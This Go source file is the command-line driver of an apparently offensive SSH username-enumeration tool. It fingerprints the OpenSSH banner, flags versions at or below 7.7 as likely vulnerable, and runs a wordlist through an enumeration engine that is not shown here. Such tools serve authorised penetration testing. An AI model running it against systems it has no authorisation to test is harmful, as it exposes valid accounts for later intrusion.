package main

import (
	"context"
	"fmt"
	"os"
	"strings"
	"time"

	"github.com/fatih/color"
	"github.com/rs/zerolog"

	"github.com/sshenum/sshenum/internal/netutil"
	"github.com/sshenum/sshenum/pkg/enum"
	"github.com/sshenum/sshenum/pkg/transport"
)

// run validates the configuration, probes the target's banner, and
// drives the enumeration engine. Input problems are fatal here,
// before any enumeration traffic; per-candidate failures are not.
func run() error {
	cfg, timeout, err := buildConfig()
	if err != nil {
		return err
	}
	users, err := loadCandidates()
	if err != nil {
		return err
	}

	logger := newLogger()
	ctx := context.Background()

	probe, err := enum.Probe(ctx, cfg, timeout)
	if err != nil {
		// Nothing is listening (or nothing that talks); running the
		// full wordlist against it would print one connection error
		// per candidate.
		return err
	}
	reportProbe(probe)

	dialer := transport.NewDialer(transport.Config{
		Timeout: timeout,
		Network: netutil.Network(cfg.IPv6),
		Log:     logger,
	})
	engine := &enum.Engine{Cap: dialer, Cfg: cfg, Log: logger}
	reporter := &enum.Reporter{Out: os.Stdout, Verbose: cfg.Verbose}

	for outcome := range engine.Run(ctx, users) {
		reporter.Report(outcome)
	}
	return nil
}

func buildConfig() (enum.Config, time.Duration, error) {
	if flags.port < 1 || flags.port > 65535 {
		return enum.Config{}, 0, fmt.Errorf("invalid port %d", flags.port)
	}
	if flags.threads < 1 {
		return enum.Config{}, 0, fmt.Errorf("invalid thread count %d", flags.threads)
	}
	if flags.timeout < 1 {
		return enum.Config{}, 0, fmt.Errorf("invalid timeout %d", flags.timeout)
	}
	if (flags.wordlist == "") == (flags.username == "") {
		return enum.Config{}, 0, fmt.Errorf("exactly one of --wordlist and --username is required")
	}
	cfg := enum.Config{
		Hostname: hostname,
		Port:     flags.port,
		Threads:  flags.threads,
		Verbose:  flags.verbose,
		IPv6:     flags.ipv6,
	}
	return cfg, time.Duration(flags.timeout) * time.Second, nil
}

func loadCandidates() ([]string, error) {
	if flags.username != "" {
		return []string{strings.TrimSpace(flags.username)}, nil
	}
	f, err := os.Open(flags.wordlist)
	if err != nil {
		return nil, fmt.Errorf("opening wordlist: %w", err)
	}
	defer f.Close()
	users, err := enum.ReadCandidates(f)
	if err != nil {
		return nil, err
	}
	if len(users) == 0 {
		return nil, fmt.Errorf("wordlist %s contains no candidates", flags.wordlist)
	}
	return users, nil
}

func newLogger() zerolog.Logger {
	level := zerolog.WarnLevel
	if flags.debug {
		level = zerolog.DebugLevel
	}
	return zerolog.New(zerolog.ConsoleWriter{Out: os.Stderr}).
		With().Timestamp().Logger().
		Level(level)
}

// reportProbe prints the advisory version line: green when the
// advertised version falls in the affected range, red when it looks
// patched.
func reportProbe(p enum.ProbeResult) {
	if !p.Known {
		fmt.Println("[!] Attempted OpenSSH version detection; version not recognized.")
		fmt.Printf("[!] Found: %s\n", color.YellowString(p.Banner))
		return
	}
	clr := color.GreenString
	if !p.LikelyVulnerable {
		clr = color.RedString
	}
	fmt.Printf("[+] %s version %s found\n", clr("OpenSSH"), clr(p.Version))
	if !p.LikelyVulnerable {
		fmt.Printf("[!] version %s is outside the affected range (<= 7.7); expect every user to classify as valid\n", p.Version)
	}
}
